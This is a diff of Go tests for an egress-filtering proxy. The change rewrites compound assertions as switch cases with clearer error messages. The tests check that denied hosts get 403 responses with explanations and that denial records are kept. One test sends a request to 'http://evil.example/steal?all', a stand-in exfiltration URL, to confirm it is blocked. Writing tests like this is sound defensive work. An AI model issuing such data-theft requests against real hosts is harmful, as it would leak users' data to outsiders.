@@ -281,8 +281,13 @@ func TestAProgramReachesWhatIsAllowed(t *testing.T) {
 			t.Errorf("the record is %+v", r)
 		}
 	}
-	if u := d.Usage(); u.Requests < 4 || u.Sent == 0 || u.Received == 0 {
-		t.Errorf("what was used is %+v", u)
+	switch u := d.Usage(); {
+	case u.Requests < 4:
+		t.Errorf("what was used: u.Requests = %v, want at least 4: %+v", u.Requests, u)
+	case u.Sent == 0:
+		t.Errorf("what was used: u.Sent = %v, want other than 0: %+v", u.Sent, u)
+	case u.Received == 0:
+		t.Errorf("what was used: u.Received = %v, want other than 0: %+v", u.Received, u)
 	}
 }
 
@@ -305,8 +310,13 @@ func TestTheZeroProxyLetsNothingOut(t *testing.T) {
 	if a := ask(t, stream(t, d), "GET", s.URL); a.status != 403 {
 		t.Errorf("a stream: %+v", a)
 	}
-	if len(s.asked()) > 0 || d.Knows("example.com") || d.Reach("example.com", 443) == nil {
-		t.Error("something is let out")
+	switch {
+	case len(s.asked()) > 0:
+		t.Errorf("something is let out: s.asked() = %v, want none", s.asked())
+	case d.Knows("example.com"):
+		t.Error(`something is let out: d.Knows("example.com") = true, want false`)
+	case d.Reach("example.com", 443) == nil:
+		t.Error(`something is let out: d.Reach("example.com", 443) is nil, want an error`)
 	}
 }
 
@@ -315,9 +325,16 @@ func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 	strict, _ := opened(t, Config{}, "GET api.example.com/v1/*")
 	c := program(t, d)
 	a := ask(t, c, "POST", "http://evil.example/steal?all")
-	if a.status != 403 || a.header.Get(deniedHeader) != "host: evil.example:80 is not among the hosts that may be reached" ||
-		a.body != "paddock: evil.example:80 is not among the hosts that may be reached.\nthe operator can allow it, as evil.example:80, in the configuration's network.allow, or PADDOCK_NET_ALLOW.\n" {
-		t.Errorf("as text: %+v", a)
+	const denied = "evil.example:80 is not among the hosts that may be reached"
+	const explained = "paddock: " + denied + ".\nthe operator can allow it, as evil.example:80, " +
+		"in the configuration's network.allow, or PADDOCK_NET_ALLOW.\n"
+	switch {
+	case a.status != 403:
+		t.Errorf("as text: a.status = %v, want 403: %+v", a.status, a)
+	case a.header.Get(deniedHeader) != "host: "+denied:
+		t.Errorf("as text: a.header.Get(deniedHeader) = %q, want %q", a.header.Get(deniedHeader), "host: "+denied)
+	case a.body != explained:
+		t.Errorf("as text: a.body = %q, want %q", a.body, explained)
 	}
 	a = ask(t, c, "POST", "http://api.example.com/v1/x", "Accept", "application/json, text/plain")
 	var problem struct {
@@ -326,9 +343,21 @@ func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 			Cause string
 		}
 	}
-	if err := json.Unmarshal([]byte(a.body), &problem); err != nil || a.status != 403 || problem.Error.Code != fault.Denied || problem.Error.Cause != "request" ||
-		!strings.Contains(problem.Error.Hint, "as POST api.example.com:80/v1/x, in the configuration's network.allow") || a.header.Get("Content-Type") != "application/json" {
-		t.Errorf("as JSON: %+v, %v", a, err)
+	switch err := json.Unmarshal([]byte(a.body), &problem); {
+	case err != nil:
+		t.Errorf("as JSON: %v", err)
+	case a.status != 403:
+		t.Errorf("as JSON: a.status = %v, want 403: %+v", a.status, a)
+	case problem.Error.Code != fault.Denied:
+		t.Errorf("as JSON: problem.Error.Code = %v, want %v: %+v", problem.Error.Code, fault.Denied, a)
+	case problem.Error.Cause != "request":
+		t.Errorf(`as JSON: problem.Error.Cause = %q, want "request"`, problem.Error.Cause)
+	case !strings.Contains(problem.Error.Hint, "as POST api.example.com:80/v1/x, in the configuration's network.allow"):
+		t.Errorf("as JSON: problem.Error.Hint = %q, want %q in it",
+			problem.Error.Hint, "as POST api.example.com:80/v1/x, in the configuration's network.allow")
+	case a.header.Get("Content-Type") != "application/json":
+		t.Errorf(`as JSON: header Content-Type = %q, want "application/json"`,
+			a.header.Get("Content-Type"))
 	}
 	if a := ask(t, program(t, strict), "GET", "http://api.example.com/v1//x"); a.status != 403 || !strings.HasSuffix(a.body, "doubled or escaped slashes.\n") {
 		t.Errorf("what no rule would allow: %+v", a)
@@ -338,13 +367,37 @@ func TestADenialTellsProgramModelAndPerson(t *testing.T) {
 	}
 	_ = ask(t, c, "GET", "https://evil.example")
 	list := d.Denials()
-	if len(list) != 3 || list[0].Host != "evil.example" || list[0].Port != 80 || list[1].Cause != "request" || list[2].Method != "CONNECT" || list[2].Count != 2 ||
-		list[2].Message == "" || list[2].Hint == "" || d.Denials() != nil {
-		t.Errorf("a run's result tells %+v", list)
+	switch {
+	case len(list) != 3:
+		t.Errorf("a run's result: len(list) = %d, want 3: %+v", len(list), list)
+	case list[0].Host != "evil.example":
+		t.Errorf(`a run's result: list[0].Host = %q, want "evil.example"`, list[0].Host)
+	case list[0].Port != 80:
+		t.Errorf("a run's result: list[0].Port = %v, want 80: %+v", list[0].Port, list)
+	case list[1].Cause != "request":
+		t.Errorf(`a run's result: list[1].Cause = %q, want "request"`, list[1].Cause)
+	case list[2].Method != "CONNECT":
+		t.Errorf(`a run's result: list[2].Method = %q, want "CONNECT"`, list[2].Method)
+	case list[2].Count != 2:
+		t.Errorf("a run's result: list[2].Count = %v, want 2: %+v", list[2].Count, list)
+	case list[2].Message == "":
+		t.Errorf("a run's result: list[2].Message is empty, want a text: %+v", list)
+	case list[2].Hint == "":
+		t.Errorf("a run's result: list[2].Hint is empty, want a text: %+v", list)
+	}
+	if again := d.Denials(); again != nil {
+		t.Errorf("the second call of Denials gives %+v, want nil", again)
 	}
 	for _, r := range got.wait(t, 4) {
-		if r.Decision != Denied || r.Cause == "" || r.Host == "" || r.Method != "CONNECT" && r.Status != 403 {
-			t.Errorf("the record is %+v", r)
+		switch {
+		case r.Decision != Denied:
+			t.Errorf("the record: r.Decision = %v, want %v: %+v", r.Decision, Denied, r)
+		case r.Cause == "":
+			t.Errorf("the record: r.Cause is empty, want a text: %+v", r)
+		case r.Host == "":
+			t.Errorf("the record: r.Host is empty, want a text: %+v", r)
+		case r.Method != "CONNECT" && r.Status != 403:
+			t.Errorf("the record of a %s: r.Status = %d, want 403: %+v", r.Method, r.Status, r)
 		}
 	}
 }
